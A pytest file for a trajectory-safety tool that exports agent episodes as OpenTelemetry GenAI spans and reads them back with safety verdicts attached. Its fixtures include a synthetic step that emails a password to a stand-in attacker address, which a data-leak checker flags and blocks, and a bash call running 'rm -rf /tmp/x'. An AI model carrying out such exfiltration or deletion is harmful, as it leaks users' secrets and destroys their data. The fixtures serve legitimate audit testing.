"""``export --format otel`` writes episodes as OpenTelemetry GenAI spans (OTLP/JSON) and the
``otel`` importer reads them back: steps, actions, tool calls and results round-trip and
verdicts travel as span events; a foreign framework's trace (full chat history on every
model call, tool spans beside the model calls) reads as the same steps."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from deliveries import deliveries
from typer.testing import CliRunner

from safactory.cli.main import app
from safactory.schemas import (
    Action,
    ChatMessage,
    Decision,
    EpisodeEnded,
    EpisodeStarted,
    Event,
    Evidence,
    FunctionCall,
    Outcome,
    Severity,
    Step,
    ToolCall,
    Trajectory,
    Verdict,
    derive_id,
)
from safactory.sinks.lance import LanceSink
from safactory.streams.assembly import TrajectoryAssembler
from safactory.tools.importers import (
    AuditRecord,
    SkippedRecord,
    read_entries,
    read_records,
)

runner = CliRunner()
HEX32, HEX16 = re.compile(r"^[0-9a-f]{32}$"), re.compile(r"^[0-9a-f]{16}$")
TOOLS = [("read_file", {"path": "notes.txt"}), ("send_email", {"to": "x@evil.test", "body": "pw"})]


def _episode(n: int) -> list[Event]:
    """An episode of two tool-calling steps and a reply; step 1 is judged unsafe."""
    eid, base = f"ep-{n}", 1000.0 + n
    events: list[Event] = [
        EpisodeStarted(
            episode_id=eid,
            task_id=f"task-{n}",
            env="mail",
            group_id=f"g-{n}",
            policy_name="p",
            policy_version=1,
            produced_at=base,
            prompt=[ChatMessage(role="user", content="tidy up")],
        )
    ]
    for i in range(3):
        if i < 2:
            name, args = TOOLS[i]
            call = ToolCall(
                id=f"call-{n}-{i}", function=FunctionCall(name=name, arguments=json.dumps(args))
            )
            messages = [
                ChatMessage(role="user", content=f"go on {i}"),
                ChatMessage(role="assistant", content=f"thinking {i}", tool_calls=[call]),
                ChatMessage(role="tool", tool_call_id=call.id, content=f"result {n}.{i}"),
            ]
            action, result = Action(tool_call=call), f"result {n}.{i}"
        else:
            messages = [ChatMessage(role="assistant", content="done")]
            action, result = Action(text="done"), None
        step = Step(
            episode_id=eid,
            step_index=i,
            env="mail",
            task_id=f"task-{n}",
            group_id=f"g-{n}",
            policy_version=1,
            action=action,
            tool_result=result,
            messages=messages,
            produced_at=base + i,
        )
        bad = i == 1
        events += [
            step,
            Verdict(
                event_id=derive_id("c", 1, step.event_id),
                episode_id=eid,
                source_event_id=step.event_id,
                step_index=i,
                env="mail",
                checker="harm.data_leak",
                risk_type="data_exfiltration" if bad else "none",
                severity=Severity.HIGH if bad else Severity.NONE,
                score=0.9 if bad else 0.0,
                decision=Decision.BLOCK if bad else Decision.ALLOW,
                evidence=[Evidence(text="x@evil.test", field="action")] if bad else [],
                produced_at=base + i,
            ),
        ]
    end = EpisodeEnded(
        episode_id=eid,
        task_id=f"task-{n}",
        env="mail",
        group_id=f"g-{n}",
        outcome=Outcome.FAILURE,
        num_steps=3,
        produced_at=base + 3,
    )
    events += [
        end,
        Verdict(
            event_id=derive_id("c", 1, end.event_id),
            episode_id=eid,
            source_event_id=end.event_id,
            env="mail",
            checker="episode.summary",
            risk_type="data_exfiltration",
            severity=Severity.HIGH,
            score=0.8,
            produced_at=base + 3,
        ),
    ]
    return events


@pytest.fixture(scope="module")
def db(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[Trajectory]]:
    path = tmp_path_factory.mktemp("lance") / "db"
    events = [e for n in range(3) for e in _episode(n)]
    assembler = TrajectoryAssembler()
    trajectories = [t for e in events for t in assembler.apply(e, 2000.0)]
    assert len(trajectories) == 3
    LanceSink(path).write_batch(deliveries(events + trajectories))
    return path, trajectories


def _export(db: Path, out: Path) -> None:
    result = runner.invoke(app, ["export", "--db", str(db), "--format", "otel", "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "wrote 3 trajectories as 18 spans to" in result.output


def _attrs(item: dict) -> dict:
    return {a["key"]: next(iter(a["value"].values())) for a in item.get("attributes", [])}


def test_export_writes_genai_spans_with_verdict_events(db, tmp_path: Path) -> None:
    path, trajectories = db
    out = tmp_path / "traces.json"
    _export(path, out)
    request = json.loads(out.read_text())
    (resource,) = request["resourceSpans"]
    spans = resource["scopeSpans"][0]["spans"]
    assert all(HEX32.match(s["traceId"]) and HEX16.match(s["spanId"]) for s in spans)
    assert all(isinstance(s["startTimeUnixNano"], str) for s in spans)
    ops = [_attrs(s)["gen_ai.operation.name"] for s in spans]
    assert ops.count("invoke_agent") == 3 and ops.count("chat") == 9
    assert ops.count("execute_tool") == 6
    by_id = {s["spanId"]: s for s in spans}
    for tool in (s for s in spans if s["name"].startswith("execute_tool")):
        parent = by_id[tool["parentSpanId"]]
        assert _attrs(parent)["gen_ai.operation.name"] == "chat"
        assert _attrs(tool)["gen_ai.tool.name"] in {"read_file", "send_email"}
    unsafe = [s for s in spans if _attrs(s).get("safactory.step.index") == "1"]
    assert len(unsafe) == 3
    for span in unsafe:  # the verdict on step 1 rides on step 1's chat span
        (event,) = span["events"]
        assert event["name"] == "gen_ai.evaluation.result"
        found = _attrs(event)
        assert found["gen_ai.evaluation.name"] == "harm.data_leak"
        assert found["safactory.verdict.risk_type"] == "data_exfiltration"
        assert found["gen_ai.evaluation.score.label"] == "block"
    roots = [s for s in spans if "parentSpanId" not in s]
    episodes = {t.episode_id for t in trajectories}
    assert {_attrs(r)["gen_ai.conversation.id"] for r in roots} == episodes
    assert all(
        any(_attrs(e)["gen_ai.evaluation.name"] == "episode.summary" for e in r["events"])
        for r in roots
    )
    assert "OpenTelemetry GenAI spans" in (tmp_path / "traces.json.card.md").read_text()


@pytest.mark.parametrize("suffix", [".json", ".jsonl"])
def test_import_reads_the_export_back(db, tmp_path: Path, suffix: str) -> None:
    path, trajectories = db
    out = tmp_path / f"traces{suffix}"
    _export(path, out)
    records = {r.id: r for r in read_records(out, "otel")}
    assert set(records) == {t.episode_id for t in trajectories}
    for t in trajectories:
        record = records[t.episode_id]
        assert record.source == "otel" and record.steps[0].env == "mail"
        assert [s.step_index for s in record.steps] == [s.step_index for s in t.steps]
        for got, want in zip(record.steps, t.steps, strict=True):
            said = next(m for m in want.messages if m.role == "assistant")
            tool = next((m for m in want.messages if m.role == "tool"), None)
            if said.tool_calls:
                (call,) = said.tool_calls
                assert got.action.tool_call is not None
                assert got.action.tool_call.id == call.id
                assert got.action.tool_call.function.name == call.function.name
                assert got.action.tool_call.function.arguments == call.function.arguments
                assert got.tool_result == tool.content
            else:
                assert got.action.tool_call is None and got.action.text == said.content
            heard = [m.content for m in want.messages if m.role == "user"]
            prompt = ["tidy up"] if got.step_index == 0 else []  # the prompt goes to step 0
            assert [m.content for m in got.messages if m.role == "user"] == prompt + heard
        verdicts = record.labels["verdicts"]
        flagged = [v for v in verdicts if v["safactory.verdict.risk_type"] == "data_exfiltration"]
        assert {v["step_index"] for v in flagged} == {1, None}  # step 1 and the episode's


def test_the_export_audits_with_the_batch_audit(db, tmp_path: Path) -> None:
    path, trajectories = db
    out = tmp_path / "traces.json"
    _export(path, out)
    result = runner.invoke(
        app,
        [
            "audit",
            str(out),
            "--format",
            "otel",
            "--checkers",
            "harm.data_leak,rule.secrets",
        ],
    )
    assert result.exit_code == 0, result.output
    lines = [json.loads(x) for x in result.output.splitlines() if x.startswith("{")]
    assert {x["id"] for x in lines} == {t.episode_id for t in trajectories}
    assert all("error" not in x for x in lines)


def test_a_foreign_frameworks_trace_reads_as_steps(tmp_path: Path) -> None:
    """Full history on every chat span, tool spans as siblings, ints as JSON numbers."""

    def span(sid: str, name: str, start: int, attrs: dict, parent: str = "r") -> dict:
        return {
            "traceId": "ab" * 16,
            "spanId": sid * 8,
            "parentSpanId": parent * 8,
            "name": name,
            "startTimeUnixNano": str(start),
            "endTimeUnixNano": str(start + 5),
            "attributes": [
                {"key": k, "value": {"stringValue": v} if isinstance(v, str) else {"intValue": v}}
                for k, v in attrs.items()
            ],
        }

    user = {"role": "user", "parts": [{"type": "text", "content": "delete temp files"}]}
    call = {
        "role": "assistant",
        "parts": [
            {"type": "tool_call", "id": "c1", "name": "bash", "arguments": {"cmd": "rm -rf /tmp/x"}}
        ],
    }
    reply = {
        "role": "tool",
        "parts": [{"type": "tool_call_response", "id": "c1", "response": "removed"}],
    }
    spans = [
        span(
            "01",
            "chat gpt-4o",
            10,
            {
                "gen_ai.operation.name": "chat",
                "gen_ai.input.messages": json.dumps([user]),
                "gen_ai.output.messages": json.dumps([call]),
            },
        ),
        span(
            "02",
            "execute_tool bash",
            20,
            {
                "gen_ai.operation.name": "execute_tool",
                "gen_ai.tool.name": "bash",
                "gen_ai.tool.call.id": "c1",
            },
        ),
        span(
            "03",
            "chat gpt-4o",
            30,
            {
                "gen_ai.operation.name": "chat",
                "gen_ai.input.messages": json.dumps([user, call, reply]),
                "gen_ai.output.messages": json.dumps(
                    [{"role": "assistant", "parts": [{"type": "text", "content": "Done."}]}]
                ),
                "gen_ai.usage.output_tokens": 3,
            },
        ),
    ]
    root = span(
        "r",
        "invoke_agent helper",
        0,
        {
            "gen_ai.operation.name": "invoke_agent",
            "gen_ai.agent.name": "helper",
            "gen_ai.conversation.id": "conv-7",
        },
    )
    del root["parentSpanId"]
    request = {
        "resourceSpans": [
            {"resource": {"attributes": []}, "scopeSpans": [{"spans": [root, *spans]}]}
        ]
    }
    file = tmp_path / "foreign.jsonl"
    file.write_text(json.dumps(request) + "\n" + "{not json\n")
    entries = read_entries(file, "otel")
    record, skipped = (
        next(e for e in entries if isinstance(e, AuditRecord)),
        next(e for e in entries if isinstance(e, SkippedRecord)),
    )
    assert len(entries) == 2 and skipped.reason.startswith(f"{file}:2: not valid JSON")
    assert record.id == "conv-7" and record.group == "helper"
    first, second = record.steps
    assert first.env == "otel:helper" and first.messages[0].content == "delete temp files"
    assert first.action.tool_call is not None
    assert json.loads(first.action.tool_call.function.arguments) == {"cmd": "rm -rf /tmp/x"}
    assert first.tool_result == "removed"  # from the next call's history: the tool span had none
    assert second.action.text == "Done." and [m.role for m in second.messages] == ["assistant"]


def test_bad_otel_input_is_named(tmp_path: Path) -> None:
    file = tmp_path / "x.json"
    file.write_text(json.dumps({"spans": []}))
    (skipped,) = read_entries(file, "otel")
    assert isinstance(skipped, SkippedRecord)
    assert "expected an object with 'resourceSpans'" in skipped.reason
    result = runner.invoke(app, ["export", "--format", "otel", "--out", str(tmp_path / "a.txt")])
    assert result.exit_code != 0 and ".json file" in result.output
